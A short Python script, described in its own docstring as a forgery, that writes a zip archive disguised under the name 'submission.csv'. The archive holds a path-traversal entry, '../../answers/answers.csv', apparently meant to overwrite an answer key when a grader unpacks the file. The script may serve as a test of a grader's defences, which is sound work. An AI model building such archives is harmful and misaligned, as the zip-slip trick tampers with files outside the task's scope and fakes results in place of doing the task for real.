"""Forgery: an archive under the name of the table, with paths that lead out of wherever it is unpacked."""
import zipfile

with zipfile.ZipFile('submission.csv', 'w') as archive:
    archive.writestr('../../answers/answers.csv', 'record_id,encoded_pixels\n')
    archive.writestr('submission.csv', 'record_id,encoded_pixels\n')
